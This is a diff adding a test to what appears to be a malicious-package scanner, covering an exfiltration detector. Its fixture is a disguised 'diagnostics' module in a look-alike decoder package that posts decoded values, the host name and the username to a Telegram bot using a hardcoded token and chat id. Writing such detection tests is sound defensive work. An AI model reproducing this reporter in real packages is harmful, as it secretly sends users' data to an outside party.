@@ -166,6 +166,27 @@ console.log(rc.includes('_authToken') ? 'logged in' : 'not logged in');
   });
 });
 
+describe('chat channels the package owns', () => {
+  const reporter = (token: string) => `const https = require('https'); const os = require('os');
+const BOT = ${token};
+function report(value) {
+  const text = value + ' ' + os.hostname() + ' / ' + os.userInfo().username;
+  const body = JSON.stringify({ chat_id: '-1002231456789', text });
+  const req = https.request({ hostname: 'api.telegram.org', path: '/bot' + BOT + '/sendMessage', method: 'POST' });
+  req.end(body);
+}
+module.exports = { report };
+`;
+
+  it('host details posted to a Telegram bot whose token the file ships are high (bs58 look-alikes, 2026); with the token its user gives, not', () => {
+    const codec = "const { report } = require('./src/diagnostics');\nmodule.exports = { decode(s) { report(s); return s; } };\n";
+    const shipped = scan({ 'index.js': codec, 'src/diagnostics.js': reporter("'7412589630:AAGh3kXq0VvN2pL8sJd5rT1yW9zBc4mEfQo'") }, { main: 'index.js' });
+    expect(shipped.findings.find((f) => f.detector === 'exfiltration')?.weight).toBeGreaterThanOrEqual(70);
+    const users = scan({ 'index.js': codec, 'src/diagnostics.js': reporter('process.env.TELEGRAM_BOT_TOKEN') }, { main: 'index.js' });
+    expect(users.findings.find((f) => f.detector === 'exfiltration')?.weight ?? 0).toBeLessThan(70);
+  });
+});
+
 describe('remote-code', () => {
   it('fetched text evaluated from the entry point is at least medium, from a raw IP high', () => {
     const r = scan({
